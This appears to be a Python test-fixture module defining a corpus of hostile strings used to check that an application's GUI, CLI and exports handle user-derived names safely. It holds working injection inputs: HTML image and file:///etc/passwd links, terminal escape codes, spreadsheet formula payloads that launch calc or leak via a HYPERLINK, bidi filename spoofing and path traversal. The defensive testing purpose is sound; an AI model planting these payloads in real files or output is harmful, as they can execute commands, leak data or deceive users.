"""Hostile strings: what a crafted spec, a damaged result file or a careless user can put in any name.

One corpus for every place that shows or writes a user-derived string (GUI views, CLI output, reports,
CSV/JSON/code/ONNX exports). Each entry targets one way a string can turn into behaviour:
HTML that Qt's rich-text auto-detection renders (an <img> pointing at /dev/zero is read forever),
matplotlib mathtext, lone surrogates that UTF-8 cannot encode, terminal escape codes, spreadsheet
formula prefixes, bidi overrides that make text lie about its order, NUL and other control characters,
and 1 MB strings that freeze layout and report code.

Use `HOSTILE` (name -> string) with `pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())`,
or `SHORT` where a 1 MB string makes a test too slow for what it checks.
"""
from __future__ import annotations

MEGABYTE = 1 << 20

_IMG_ZERO = '<img src="/dev/zero">'

HOSTILE: dict[str, str] = {
    # HTML / Qt rich text: must be shown literally, never rendered or fetched.
    "html_img_dev_zero": _IMG_ZERO,
    "html_img_file_url": '<img src="file:///etc/passwd" width=9999 height=9999>',
    "html_bold": "<b>bold</b> &amp; <i>italic</i>",
    "html_script": "<script>alert(1)</script>",
    "html_link": '<a href="file:///etc/passwd">click</a>',
    "html_style": '<span style="font-size:400pt">big</span>',
    "html_table": "<table><tr><td>cell</td></tr></table>",
    "html_entities": "&lt;b&gt; &#x26; &#0; &nbsp;",
    "html_unclosed": "<b><i><u>never closed",
    "qt_rich_hint": "<qt><h1>rich</h1></qt>",
    # matplotlib mathtext: `$\foo$` raised ParseFatalException in report charts.
    "mathtext_unknown": r"$\foo$ net",
    "mathtext_valid": r"$x^2_{i}$",
    "dollar_single": "costs $5",
    "mathtext_unbalanced": r"$\frac{1}{",
    # Lone surrogates: not encodable as UTF-8 (UnicodeEncodeError when written or printed).
    "surrogate_high": "net\ud800",
    "surrogate_low": "net\udc80",
    "surrogate_pair_split": "\udbff\udfff\ud800",
    # Terminal escape codes: recolour, retitle or clear the user's terminal when printed raw.
    "ansi_colour": "\x1b[31mred\x1b[0m",
    "ansi_title_bell": "\x1b]0;pwned\x07",
    "ansi_clear": "\x1b[2J\x1b[H",
    "c1_csi": "\x9b31m",
    # Spreadsheet formula prefixes: executed when a CSV is opened in a spreadsheet.
    "formula_hyperlink": '=HYPERLINK("http://example.invalid/?leak","click")',
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "formula_cr": "\r=1+1",
    # Bidi controls: make text display in an order other than its stored one.
    "rtl_override": "net\u202egnp.exe",
    "bidi_isolates": "\u2066left\u2069\u2067right\u2069\u200f",
    # NUL and other control characters: truncate C strings, break line-based formats.
    "nul": "a\x00b",
    "controls": "\x01\x07\x08\x0b\x0c\x7f",
    "newlines": "line1\nline2\r\nline3\u2028line4\u2029",
    "zero_width": "\u200b\u200c\u200d\ufeff",
    # Ordinary-but-awkward text that must survive unchanged.
    "combining_emoji": "\U0001f469\u200d\U0001f52c e\u0301",
    "format_specs": "%s%n%x {0} {name} {{",
    "path_traversal": "../../../etc/passwd",
    "backslashes": "C:\\x\\\\y\\",
    "quotes": "'\"`",
    "whitespace_only": " \t ",
    # Size: 1 MB names froze the GUI for 31 s and reports for over 2 minutes.
    "megabyte_plain": "A" * MEGABYTE,
    "megabyte_html": (_IMG_ZERO * (MEGABYTE // len(_IMG_ZERO) + 1))[:MEGABYTE],
    "megabyte_one_line_words": ("word " * (MEGABYTE // 5 + 1))[:MEGABYTE],
}

LONG_KEYS = frozenset(k for k, v in HOSTILE.items() if len(v) >= MEGABYTE)
SHORT: dict[str, str] = {k: v for k, v in HOSTILE.items() if k not in LONG_KEYS}
# Strings that UTF-8 can encode: the ones a file on disk or a command-line argument can carry as is.
ENCODABLE: dict[str, str] = {k: v for k, v in HOSTILE.items() if not any(0xD800 <= ord(c) <= 0xDFFF for c in v)}

